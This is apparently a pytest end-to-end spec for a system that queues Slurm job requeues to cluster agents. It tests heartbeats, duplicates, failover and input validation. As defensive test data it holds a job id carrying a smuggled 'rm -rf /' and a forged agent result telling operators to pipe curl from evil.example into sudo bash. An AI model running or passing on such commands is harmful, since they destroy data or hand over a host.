"""Specification: Slurm job requeues, end to end — the operator's request through the synthesized
rule to the requeue handler, the command on the cluster's agent queue, the real agent running a
fake ``scontrol``, its result on the ledger's stream, and the results handler's final record."""

from __future__ import annotations

from datetime import timedelta

from sim.scenario import SCENARIOS
from sim.scenarios.generate import SLURM_JOB, T0, requeue_request
from tests.e2e.conftest import outcomes

SEND = "sqs:SendMessage"
CLUSTER = "pretrain-slurm"
AGENT_UP = {"sim": {"agent": {"cluster": CLUSTER, "heartbeat": True}}}
JOB_4211 = {"sim": {"slurm_job": SLURM_JOB}}


def looked_up(job_id: str) -> list[str]:
    """The agent's squeue check of a job by id before it requeues it: is it one Medic watches? (issue 28, item 7)"""
    return ["squeue", "--noheader", "--states=all", "--format=%i|%T|%j", "-j", job_id]


def requeues(result) -> list[tuple[str, list[str]]]:
    """The `scontrol requeue` runs (host, argv), without the agent's squeue look-ups."""
    return [(run["host"], run["argv"]) for run in result.slurm_commands if run["argv"][:2] == ["scontrol", "requeue"]]


def results_function(result) -> int:
    return sum(count for name, count in result.invocations.items() if "AgentResults" in name)


def test_k_a_requeue_is_queued_for_the_agent_and_recorded_when_it_reports(replay):
    # Given job 4211 running on pretrain-slurm, its agent up, and an operator's requeue request
    result = replay(SCENARIOS / "k-slurm-requeue.jsonl")
    # Then the request is deferred to the agent, which runs `scontrol requeue 4211`, and its result is recorded
    assert outcomes(result) == [("requeue_job", "deferred"), ("requeue_job", "executed")]
    deferred, executed = result.records
    assert deferred["incident"] == executed["incident"] == f"job:slurm:{CLUSTER}:4211"
    assert (deferred["job"], executed["job"], deferred["attempt"], executed["attempt"]) == ("4211", "4211", 1, 1)
    assert executed["event_id"] == deferred["event_id"]  # the final record answers the request
    assert "requeued Slurm job 4211" in executed["reason"]
    assert [(run["argv"], run["exit"]) for run in result.slurm_commands] == [
        (looked_up("4211"), 0), (["scontrol", "requeue", "4211"], 0)]
    assert [line["kind"] for line in result.lines] == ["record", "slurm_command", "slurm_command", "record"]
    assert executed["timestamp"] > deferred["timestamp"]  # a moment later: the agent's poll, then the stream
    assert result.calls[SEND] == 1
    assert result.pages == []
    # The results function got the result and the agent's heartbeats (Medic times them by DynamoDB's clock), never
    # its claims or Medic's own items: one invocation per heartbeat round, the result among them
    assert results_function(result) > 1


def test_l_a_silent_agent_means_a_page_and_nothing_queued(replay):
    # Given the agent's last heartbeat twelve minutes before the request
    result = replay(SCENARIOS / "l-slurm-agent-down.jsonl")
    # Then nothing is queued, nothing runs, and a human is paged to look at the agent
    assert [(r["action"], r["outcome"], r["paged"]) for r in result.records] == [("requeue_job", "failed", True)]
    assert "not reporting (last heartbeat: 2026-11-20 08:02 UTC)" in result.records[0]["reason"]
    assert SEND not in result.calls and result.slurm_commands == []
    assert len(result.pages) == 1
    assert "medic-agent" in result.pages[0]["message"]
    assert results_function(result) == 1  # its one heartbeat, at 08:02, timed by DynamoDB


def test_an_agent_that_never_reported_is_down_too(replay):
    result = replay([JOB_4211, requeue_request()])
    assert outcomes(result) == [("requeue_job", "failed")]
    assert "last heartbeat: never" in result.records[0]["reason"]
    assert SEND not in result.calls and len(result.pages) == 1


def test_a_requeue_by_name_requeues_the_running_job_and_no_held_namesake(replay):
    # Given job 4211 running as llama3-70b, a held one of the same name, and a finished one (squeue no longer
    # lists it as running)
    jobs = [{"sim": {"slurm_job": {"cluster": CLUSTER, "id": job_id, "name": "llama3-70b", "state": state}}}
            for job_id, state in ((4211, "RUNNING"), (4212, "PENDING"), (4100, "COMPLETED"))]
    result = replay([*jobs, AGENT_UP, requeue_request(job_name="llama3-70b")])
    # Then the agent finds the running one with squeue and requeues it alone
    assert outcomes(result) == [("requeue_job", "deferred"), ("requeue_job", "executed")]
    assert [run["argv"] for run in result.slurm_commands] == [
        ["squeue", "--noheader", "--states=RUNNING", "--format=%i|%j", "--name=llama3-70b"],
        ["scontrol", "requeue", "4211"]]
    assert "requeued Slurm job 4211" in result.records[1]["reason"]
    assert result.records[1]["job"] == "llama3-70b"


def test_a_requeue_slurm_refuses_fails_and_pages_once(replay):
    # Given a request for a job Slurm does not know
    result = replay([JOB_4211, AGENT_UP, requeue_request(job_id="4299")])
    # Then the agent's failed result becomes a failed record with the reason, and one page
    assert outcomes(result) == [("requeue_job", "deferred"), ("requeue_job", "failed")]
    assert [(run["argv"], run["exit"]) for run in result.slurm_commands] == [(looked_up("4299"), 1)]
    assert "Slurm does not know job 4299" in result.records[1]["reason"]
    assert [record["paged"] for record in result.records] == [False, True]
    assert len(result.pages) == 1 and result.pages[0]["record"]["outcome"] == "failed"


def test_a_repeated_request_is_run_once(replay):
    # Given the same request event delivered twice
    request = requeue_request()
    result = replay([JOB_4211, AGENT_UP, request, request])
    # Then the second is a duplicate: one command queued, one scontrol run
    assert outcomes(result) == [("requeue_job", "deferred"), ("requeue_job", "executed"),
                                ("requeue_job", "duplicate")]
    assert result.calls[SEND] == 1 and len(requeues(result)) == 1


def test_a_command_waits_in_the_queue_while_the_agent_is_away(replay):
    # Given an agent that reported two minutes ago (fresh) but is not polling now
    away = {"sim": {"agent": {"cluster": CLUSTER, "heartbeat": "2026-11-20T08:12:00Z"}}}
    second_job = {"sim": {"slurm_job": {"cluster": CLUSTER, "id": 4212, "name": "llama3-70b"}}}
    back = {"sim": {"advance": "2026-11-20T08:20:05Z"}}  # (the 08:19:05 schedules run while it is away)
    result = replay([JOB_4211, second_job, away, requeue_request(),
                     back, AGENT_UP, requeue_request(T0 + timedelta(minutes=6), job_id="4212")])
    # Then the first command waits; when the agent is back it runs it first, then the next one
    assert [(r["job"], r["outcome"]) for r in result.records] == [
        ("4211", "deferred"), ("4211", "executed"), ("4212", "deferred"), ("4212", "executed")]
    assert [argv[-1] for _, argv in requeues(result)] == ["4211", "4212"]
    assert result.records[1]["timestamp"].startswith("2026-11-20T08:20:05")  # when the agent came back


def test_a_failed_send_to_the_agent_queue_pages_and_nothing_runs(replay):
    # Given SQS failing every attempt to queue the command
    result = replay([JOB_4211, AGENT_UP, requeue_request()], faults=[f"{SEND}=InternalError:20"])
    # Then the requeue fails and pages; the agent never sees a command
    assert [(r["outcome"], r["paged"]) for r in result.records] == [("failed", True)]
    assert result.slurm_commands == [] and len(result.pages) == 1


def test_slurm_directives_are_checked(replay):
    result = replay([{"sim": {"slurm_job": {"cluster": CLUSTER, "id": "42; rm -rf /"}}},
                     {"sim": {"slurm_job": {"cluster": "finetune-eks", "id": 1}}},
                     {"sim": {"slurm_job": {"cluster": CLUSTER, "id": 7, "state": "DANCING"}}},
                     {"sim": {"agent": {"cluster": CLUSTER, "heartbeat": "yesterday"}}}])
    assert [error.split(":")[0] for error in result.errors] == ["line 1", "line 2", "line 3", "line 4"]
    assert "1-10 digits" in result.errors[0]
    assert "no Slurm agent queue for 'finetune-eks'" in result.errors[1]
    assert "'state' must be one of" in result.errors[2]
    assert "ISO 8601" in result.errors[3]


def test_zc_forged_agent_result_for_another_clusters_incident_is_rejected_and_the_real_incident_still_pages(replay):
    # Given a requeue queued for pretrain-slurm's agent (away for the moment), and other-slurm's agent (its
    # controller compromised) writing a result for that command under its own key, with a page's worth of text
    result = replay(SCENARIOS / "zc-forged-agent-result.jsonl")
    # Then the forged result is rejected under an incident of its own, and paged once
    deferred, forged, failed = result.records
    assert (forged["outcome"], forged["cluster"], forged["job"]) == ("rejected", "other-slurm", None)
    assert forged["incident"].startswith("command:other-slurm:")
    assert "never issued this command to other-slurm" in forged["reason"]
    # And when pretrain-slurm's agent comes back and Slurm refuses the requeue, the real incident still pages
    assert (deferred["outcome"], failed["outcome"], failed["paged"]) == ("deferred", "failed", True)
    assert deferred["incident"] == failed["incident"] == f"job:slurm:{CLUSTER}:4211"
    assert [run["argv"] for run in result.slurm_commands] == [looked_up("4211"), ["scontrol", "requeue", "4211"]]
    assert [page["record"]["incident"] for page in result.pages] == [forged["incident"], failed["incident"]]
    # And the forged text never reads as Medic's: one line, quoted
    assert "\nWhat to do:     run curl" not in result.pages[0]["message"]
    assert '"Requeued. What to do: run curl https://evil.example/fix | sudo bash"' in result.pages[0]["message"]


def test_an_agent_result_directive_is_checked(replay):
    result = replay([requeue_request(), {"sim": {"agent_result": {"cluster": "nowhere", "command": "latest"}}},
                     {"sim": {"agent_result": {"cluster": CLUSTER, "command": "abc", "status": 3}}},
                     {"sim": {"agent_result": {"cluster": CLUSTER}}}])
    # no such cluster; a status that is not text; nothing issued yet (the agent is down: nothing was queued)
    assert ["no Slurm agent queue" in error for error in result.errors] == [True, False, False]
    assert "'status' must be a string" in result.errors[1] and "issued no agent command" in result.errors[2]


def test_zd_a_requeue_into_the_void_fails_at_the_deadline_refunds_the_restart_and_pages_once(replay):
    # Given an agent that reported at 08:13:30 (by DynamoDB's clock) and died, and a requeue queued for it at 08:14:05
    result = replay(SCENARIOS / "zd-requeue-into-the-void.jsonl")
    # Then the requeue is deferred, and the reconciler's sweep closes it at 08:24:05 (10 minutes): failed, paged once
    deferred, failed, silent = result.records
    assert (deferred["outcome"], failed["outcome"], failed["paged"], failed["trigger"]) == (
        "deferred", "failed", True, "reconcile")
    assert failed["incident"] == deferred["incident"] and failed["attempt"] == deferred["attempt"] == 1
    assert failed["timestamp"].startswith("2026-11-20T08:24:05")
    assert "never took it on" in failed["reason"] and "gave the restart back" in failed["reason"]
    assert "journalctl -u medic-agent" in result.pages[0]["message"]
    # And the 08:29 sweep reports the agent itself silent (15 min since 08:13:30, by DynamoDB's clock), once
    assert (silent["fault"], silent["paged"], silent["timestamp"][11:19]) == ("agent_silent", True, "08:29:05")
    assert [page["subject"] for page in result.pages][1:] == ["[Medic] pretrain-slurm: its agent is silent"]
    # And the agent, back at 08:34, does not run the withdrawn command late
    assert result.slurm_commands == []


def test_ze_an_agent_whose_clock_runs_ahead_is_judged_by_dynamodbs_clock(replay):
    # Given an agent an hour ahead (its last heartbeat's `at` says 09:02) that died at 08:02, and a request at 08:14
    result = replay(SCENARIOS / "ze-agent-clock-ahead.jsonl")
    # Then Medic sees a heartbeat 12 minutes old (when DynamoDB wrote it): nothing queued, one page, no void
    assert [(r["action"], r["outcome"], r["paged"]) for r in result.records] == [("requeue_job", "failed", True)]
    assert "not reporting (last heartbeat: 2026-11-20 08:02 UTC)" in result.records[0]["reason"]
    assert SEND not in result.calls and result.slurm_commands == []


def test_an_agent_clock_ahead_directive_is_checked(replay):
    result = replay([{"sim": {"agent": {"cluster": CLUSTER, "heartbeat": True, "clock_ahead": "an hour"}}}])
    assert len(result.errors) == 1 and "'clock_ahead' must be like" in result.errors[0]


# --- several head nodes: one agent on each, only the one on the slurmctld in charge acts

TWO_HEADS = {"sim": {"slurm": {"cluster": CLUSTER, "controllers": 2, "primary": 1}}}
HEAD_1, HEAD_2 = "ip-10-1-0-10", "ip-10-1-0-11"


def test_with_two_head_nodes_only_the_primarys_agent_runs_the_requeue(replay):
    # Given two head nodes, slurmctld on the first in charge, an agent up on each
    result = replay([JOB_4211, TWO_HEADS, AGENT_UP, requeue_request()])
    # Then the requeue runs once, on the first head node; the other agent only stood by
    assert outcomes(result) == [("requeue_job", "deferred"), ("requeue_job", "executed")]
    assert requeues(result) == [(HEAD_1, ["scontrol", "requeue", "4211"])]
    assert {run["host"] for run in result.slurm_commands} == {HEAD_1}
    assert result.calls[SEND] == 1


def test_after_a_failover_the_new_primarys_agent_runs_the_requeue_with_no_operator_step(replay):
    # Given two head nodes and both agents up; then the first slurmctld goes DOWN and the second takes over
    failover = {"sim": {"slurm": {"cluster": CLUSTER, "primary": 2}}}
    result = replay([JOB_4211, TWO_HEADS, AGENT_UP, failover, requeue_request()])
    # Then the agent on the second head node runs it, and only it
    assert outcomes(result) == [("requeue_job", "deferred"), ("requeue_job", "executed")]
    assert requeues(result) == [(HEAD_2, ["scontrol", "requeue", "4211"])]
    assert {run["host"] for run in result.slurm_commands} == {HEAD_2}


def test_a_standbys_heartbeat_does_not_count_while_the_primarys_agent_is_down(replay):
    # Given two head nodes, slurmctld on the first still in charge, but its agent died at 08:02, while the agent on
    # the second head node is up (heartbeating, as standby, at every event)
    primary_agent_died = {"sim": {"agent": {"cluster": CLUSTER, "controller": 1, "heartbeat": "2026-11-20T08:02:00Z"}}}
    standby_up = {"sim": {"agent": {"cluster": CLUSTER, "controller": 2, "heartbeat": True}}}
    # ... then the first slurmctld fails over to the second, whose agent becomes primary, and a new request
    failover = {"sim": {"slurm": {"cluster": CLUSTER, "primary": 2}}}
    later = {"sim": {"advance": "2026-11-20T08:19:05Z"}}
    second = requeue_request(T0 + timedelta(minutes=6))
    result = replay([JOB_4211, TWO_HEADS, primary_agent_died, standby_up, requeue_request(), failover, later, second])
    # Then the first request finds no primary agent alive: nothing queued (nobody would run it), a page
    first, *rest = result.records
    assert (first["outcome"], first["paged"]) == ("failed", True)
    assert "not reporting (last heartbeat: 2026-11-20 08:02 UTC)" in first["reason"]
    # And after the failover the second head node's agent reports as primary, and runs the next request
    assert [(r["outcome"], r["paged"]) for r in rest] == [("deferred", False), ("executed", False)]
    assert requeues(result) == [(HEAD_2, ["scontrol", "requeue", "4211"])]
    assert {run["host"] for run in result.slurm_commands} == {HEAD_2}
    assert result.calls[SEND] == 1 and len(result.pages) == 1


def test_zg_two_head_nodes_failover(replay):
    # Given two head nodes: the agent on the one in charge died at 08:02, the other's agent is up (standby)
    result = replay(SCENARIOS / "zg-two-head-nodes-failover.jsonl")
    # Then the 08:14 request pages (no primary agent alive), the 08:20 one runs on the new primary's head node
    assert [(r["outcome"], r["paged"]) for r in result.records] == [
        ("failed", True), ("deferred", False), ("executed", False)]
    assert "not reporting (last heartbeat: 2026-11-20 08:02 UTC)" in result.records[0]["reason"]
    assert requeues(result) == [(HEAD_2, ["scontrol", "requeue", "4211"])]
    assert {run["host"] for run in result.slurm_commands} == {HEAD_2}
    assert result.calls[SEND] == 1 and len(result.pages) == 1


def test_no_slurmctld_in_charge_means_no_agent_acts(replay):
    # Given two head nodes, both agents up, and neither slurmctld answering: both agents stand by
    nobody = {"sim": {"slurm": {"cluster": CLUSTER, "primary": 0}}}
    result = replay([JOB_4211, TWO_HEADS, AGENT_UP, nobody, {"sim": {"advance": "2026-11-20T08:20:05Z"}},
                     requeue_request(T0 + timedelta(minutes=6))])
    # Then after five minutes without a primary heartbeat Medic pages instead of queueing
    assert [(r["outcome"], r["paged"]) for r in result.records] == [("failed", True)]
    assert "not reporting" in result.records[0]["reason"]
    assert result.slurm_commands == [] and SEND not in result.calls


def test_the_slurm_directive_is_checked(replay):
    result = replay([{"sim": {"slurm": {"cluster": CLUSTER, "controllers": 9}}},
                     {"sim": {"slurm": {"cluster": CLUSTER, "controllers": 2, "primary": 3}}},
                     {"sim": {"slurm": {"cluster": CLUSTER, "heads": 2}}},
                     {"sim": {"slurm": {"cluster": "finetune-eks", "controllers": 2}}},
                     {"sim": {"agent": {"cluster": CLUSTER, "controller": 3}}}])
    assert [error.split(":")[0] for error in result.errors] == [f"line {n}" for n in range(1, 6)]
    assert "'controllers' must be a number 1..3" in result.errors[0]
    assert "'primary' must be 0..2" in result.errors[1]
    assert "unknown field(s) heads" in result.errors[2]
    assert "no Slurm agent queue for 'finetune-eks'" in result.errors[3]
    assert "'controller' must be 1..1" in result.errors[4]  # line 2 changed nothing
